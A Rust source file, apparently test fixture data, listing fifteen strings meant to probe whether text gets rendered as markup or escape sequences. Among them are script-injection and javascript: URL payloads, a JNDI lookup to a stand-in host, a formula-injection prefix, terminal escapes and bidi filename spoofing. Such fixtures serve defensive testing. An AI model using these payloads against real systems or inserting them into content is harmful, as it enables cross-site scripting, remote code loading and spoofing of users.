//! Texts that a workload may choose in order to become markup, an escape sequence or something else than text.

pub const TEXTS: [&str; 15] = [
    "a | b || c \\| d \\",
    "``` ` `` `",
    "</script><script>alert(1)</script><!--",
    "\x1b[2J\x1b]0;title\x07",
    "@team please @org/owners",
    "[link](javascript:alert(1)) ![i](http://x.test/y.png) <https://x.test>",
    "\u{202e}txt.exe\u{2066}x\u{2069}",
    "line one\n- line two\r\n\tthree\n\n# four",
    "line one\nline two\r\n\tthree\u{2028}four",
    "&lt;b&gt; &amp; &#124; www.x.test a@x.test #12 !3 ~label $x$ :smile: org/repo#1 _a_ **b**",
    "1. one 2) two - three + four === ---",
    "click n0 \"javascript:alert(1)\"",
    "%%{init: {'theme':'dark'}}%% \"]; n1 --> n2; end",
    "{{ template }} ${jndi:ldap://x.test} =cmd()",
    "\u{9b}31m\u{200b}\u{feff}\u{e0041}\u{7f}\0",
];
